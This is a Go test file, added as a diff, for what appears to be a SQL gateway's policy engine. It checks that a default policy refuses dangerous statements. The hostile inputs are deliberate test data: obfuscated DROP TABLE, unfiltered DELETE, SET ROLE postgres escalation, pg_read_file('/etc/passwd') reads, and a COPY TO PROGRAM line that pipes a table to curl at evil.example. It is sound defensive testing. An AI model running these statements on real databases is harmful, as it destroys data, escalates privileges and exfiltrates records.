@@ -1,0 +1,165 @@
+package policy
+
+import (
+	"context"
+	"io"
+	"log/slog"
+	"strings"
+	"testing"
+
+	"github.com/gatehouse/gatehouse/internal/gate"
+	"github.com/gatehouse/gatehouse/internal/identity"
+	"github.com/gatehouse/gatehouse/internal/inspect"
+)
+
+// tableClasses is the classification catalog's answer for the tests: which tables hold which
+// sensitive classes. It is data, the way internal/classify would report it.
+type tableClasses map[string][]string
+
+func (c tableClasses) SensitiveClasses(_ context.Context, _ string, tables []string) []string {
+	var out []string
+	for _, t := range tables {
+		t = strings.TrimPrefix(strings.ToLower(t), "public.")
+		out = append(out, c[t]...)
+	}
+	return out
+}
+
+// TestDefaultPolicyThroughInspector runs real SQL through the real inspector and the gate's
+// Check with the default policy: the hazards are refused however they are written.
+func TestDefaultPolicyThroughInspector(t *testing.T) {
+	e := newEngine(t)
+	g := &gate.Gate{Inspector: inspect.New(1000), Policy: e, Catalog: tableClasses{"users": {"email", "ssn"}},
+		Log: slog.New(slog.NewTextHandler(io.Discard, nil))}
+	ctx := context.Background()
+	dbaProd := who("dan@corp.example", identity.Human, "prod", "dba")
+	dbaDev := who("dan@corp.example", identity.Human, "dev", "dba")
+	reader := who("alice@corp.example", identity.Human, "prod")
+	writer := who("alice@corp.example", identity.Human, "dev")
+	agent := who("copilot", identity.Agent, "dev")
+	compliance := who("carl@corp.example", identity.Human, "prod", "compliance")
+	for _, s := range []*gate.Session{dbaProd, dbaDev, reader, writer, agent, compliance} {
+		d, err := g.OpenSession(ctx, s)
+		if err != nil || d.Action != gate.Allow {
+			t.Fatalf("open session for %s: %+v %v", s.Identity.Subject, d, err)
+		}
+	}
+	cases := []struct {
+		s      *gate.Session
+		sql    string
+		action gate.Action
+		rule   string
+	}{
+		// DROP / TRUNCATE in production, however written.
+		{dbaProd, "DROP TABLE users", gate.Deny, "no-drop-or-truncate-in-production"},
+		{dbaProd, `/* harmless */ DrOp   TaBlE "public"."users"`, gate.Deny, "no-drop-or-truncate-in-production"},
+		{dbaProd, "SELECT 1; drop table if exists users cascade", gate.Deny, "no-drop-or-truncate-in-production"},
+		{dbaProd, "BEGIN; DROP SCHEMA app CASCADE; COMMIT", gate.Deny, "no-drop-or-truncate-in-production"},
+		{dbaProd, "truncate only users restart identity", gate.Deny, "no-drop-or-truncate-in-production"},
+		{dbaProd, "DROP DATABASE app", gate.Deny, "no-drop-or-truncate-in-production"},
+		{dbaDev, "DROP TABLE users", gate.Allow, RuleDefault},
+		// DDL in production is held.
+		{dbaProd, "CREATE TABLE t (a int)", gate.RequireApproval, "production-schema-changes-need-approval"},
+		{dbaProd, "ALTER TABLE users DROP COLUMN email", gate.RequireApproval, "production-schema-changes-need-approval"},
+		{dbaProd, "create index concurrently on users (email)", gate.RequireApproval, "production-schema-changes-need-approval"},
+		// UPDATE / DELETE without a narrowing WHERE, in every disguise.
+		{writer, "DELETE FROM users", gate.Deny, "no-update-or-delete-without-where"},
+		{writer, "delete from public.users where true", gate.Deny, "no-update-or-delete-without-where"},
+		{writer, "UPDATE users SET email = 'x' WHERE 1 = 1", gate.Deny, "no-update-or-delete-without-where"},
+		{writer, "WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d", gate.Deny, "no-update-or-delete-without-where"},
+		{writer, "EXPLAIN ANALYZE DELETE FROM users", gate.Deny, "no-update-or-delete-without-where"},
+		{writer, "PREPARE p AS DELETE FROM users", gate.Deny, "no-update-or-delete-without-where"},
+		{writer, "SELECT 1; DELETE FROM users; SELECT 2", gate.Deny, "no-update-or-delete-without-where"},
+		{writer, "DELETE FROM users WHERE id = 42", gate.Allow, RuleDefault},
+		{writer, "UPDATE users SET email = 'x' WHERE id = $1", gate.Allow, RuleDefault},
+		// Role changes escape the least-privileged upstream role.
+		{dbaDev, "SET ROLE postgres", gate.Deny, "no-role-change"},
+		{dbaDev, "set local role postgres", gate.Deny, "no-role-change"},
+		{dbaDev, "SET SESSION AUTHORIZATION postgres", gate.Deny, "no-role-change"},
+		{dbaDev, "RESET ROLE", gate.Deny, "no-role-change"},
+		{dbaDev, "SET ROLE NONE", gate.Deny, "no-role-change"},
+		{dbaDev, "SELECT set_config('role', 'postgres', false)", gate.Deny, "no-role-change"},
+		{dbaDev, "select pg_catalog.set_config('session_authorization', 'postgres', false)", gate.Deny, "no-role-change"},
+		{dbaDev, "SELECT set_config(name, 'postgres', false) FROM (VALUES ('role')) v(name)", gate.Deny, "no-role-change"},
+		{dbaDev, "DISCARD ALL", gate.Deny, "no-role-change"},
+		{reader, "SET ROLE postgres", gate.Deny, RuleAccessLevel},
+		{reader, "SET search_path TO app, public", gate.Allow, RuleDefault},
+		{reader, "DISCARD PLANS", gate.Allow, RuleDefault},
+		// Functions that read files, run programs, or run SQL from strings.
+		{dbaDev, "SELECT pg_read_file('/etc/passwd')", gate.Deny, "no-dangerous-functions"},
+		{dbaDev, "select PG_CATALOG.PG_READ_BINARY_FILE('/etc/passwd')", gate.Deny, "no-dangerous-functions"},
+		{dbaDev, "SELECT * FROM pg_ls_dir('.')", gate.Deny, "no-dangerous-functions"},
+		{dbaDev, "SELECT lo_import('/etc/passwd')", gate.Deny, "no-dangerous-functions"},
+		{dbaDev, "SELECT lo_export(1234, '/tmp/x')", gate.Deny, "no-dangerous-functions"},
+		{dbaDev, "SELECT * FROM dblink('host=127.0.0.1', 'SELECT 1') AS t(a int)", gate.Deny, "no-dangerous-functions"},
+		{dbaDev, "COPY users TO PROGRAM 'curl -d @- https://evil.example'", gate.Deny, "no-dangerous-functions"},
+		{dbaDev, "copy users from program 'cat /etc/passwd'", gate.Deny, "no-dangerous-functions"},
+		{dbaDev, "COPY users FROM '/etc/passwd'", gate.Deny, "no-dangerous-functions"},
+		{dbaDev, "SELECT query_to_xml('SELECT 1', true, true, '')", gate.Deny, "no-dangerous-functions"},
+		{writer, "SELECT query_to_xml('DELETE FROM users RETURNING 1', true, true, '')", gate.Deny, "no-dangerous-functions"},
+		// XML output of a whole table cannot be masked column by column.
+		{reader, "SELECT table_to_xml('users', true, false, '')", gate.Deny, "no-dangerous-functions"},
+		{reader, "SELECT pg_read_file('/etc/passwd')", gate.Deny, RuleAccessLevel},
+		// Bulk export of sensitive tables from production.
+		{reader, "COPY users TO STDOUT", gate.RequireApproval, "production-sensitive-export-needs-approval"},
+		{reader, "COPY (SELECT email FROM users) TO STDOUT WITH CSV", gate.RequireApproval, "production-sensitive-export-needs-approval"},
+		{reader, "COPY orders TO STDOUT", gate.Allow, RuleDefault},
+		{writer, "COPY users TO STDOUT", gate.Allow, RuleDefault},
+		// Access levels, worst effect first.
+		{reader, "SELECT * FROM users WHERE id = 1", gate.Allow, RuleDefault},
+		{reader, "BEGIN; SELECT 1; COMMIT", gate.Allow, RuleDefault},
+		{reader, "INSERT INTO audit VALUES (1)", gate.Deny, RuleAccessLevel},
+		{reader, "WITH x AS (INSERT INTO audit VALUES (1) RETURNING 1) SELECT * FROM x", gate.Deny, RuleAccessLevel},
+		{reader, "SELECT nextval('s')", gate.Deny, RuleAccessLevel},
+		{reader, "SELECT * INTO copy_of_users FROM users", gate.Deny, RuleAccessLevel},
+		{reader, "DO $$ BEGIN DELETE FROM users; END $$", gate.Deny, RuleUnknown},
+		{reader, "CALL cleanup()", gate.Deny, RuleUnknown},
+		{reader, "SELECT app.sneaky()", gate.Deny, RuleUnknown},
+		{reader, "SELEC * FROM users", gate.Deny, RuleUnknown},
+		{agent, "UPDATE users SET email = 'x' WHERE id = 1", gate.Deny, RuleAccessLevel},
+		{writer, "CREATE TABLE t (a int)", gate.Deny, RuleAccessLevel},
+		{writer, "GRANT SELECT ON users TO public", gate.Deny, RuleAccessLevel},
+		{dbaDev, "DO $$ BEGIN PERFORM 1; END $$", gate.Allow, RuleDefault},
+	}
+	for _, c := range cases {
+		t.Run(c.s.Identity.Subject+"/"+c.s.Target.Environment+"/"+c.sql, func(t *testing.T) {
+			chk := g.Check(ctx, c.s, c.sql, gate.ViaQuery)
+			d := chk.Decision
+			if d.Action != c.action || d.Rule != c.rule {
+				var facts []string
+				for _, st := range chk.Statements {
+					facts = append(facts, st.Kind+"/"+string(st.Category))
+				}
+				t.Fatalf("got %s/%s (%s), want %s/%s; statements %v", d.Action, d.Rule, d.Message, c.action, c.rule, facts)
+			}
+			if d.Action != gate.Allow && !strings.Contains(chk.DenyMessage(), d.Rule) {
+				t.Fatalf("client message lacks the rule: %s", chk.DenyMessage())
+			}
+		})
+	}
+	// Masking: the compliance group sees raw values, everyone else the default profile.
+	if d := g.Check(ctx, compliance, "SELECT email FROM users WHERE id = 1", gate.ViaQuery).Decision; d.MaskProfile != "none" {
+		t.Fatalf("compliance: %+v", d)
+	}
+	if d := g.Check(ctx, reader, "SELECT email FROM users WHERE id = 1", gate.ViaQuery).Decision; d.MaskProfile != "" {
+		t.Fatalf("reader: %+v", d)
+	}
+}
+
+func TestExplainThroughInspector(t *testing.T) {
+	e := newEngine(t)
+	sts := inspect.New(10).Inspect("DELETE FROM users")
+	if len(sts) != 1 {
+		t.Fatalf("statements: %d", len(sts))
+	}
+	x := e.Explain(context.Background(), who("alice@corp.example", identity.Human, "dev"), sts[0])
+	var b strings.Builder
+	if err := FormatExplanation(&b, x); err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{"DELETE", "users", "no-update-or-delete-without-where", "DENY"} {
+		if !strings.Contains(b.String(), want) {
+			t.Fatalf("lacks %q:\n%s", want, b.String())
+		}
+	}
+}
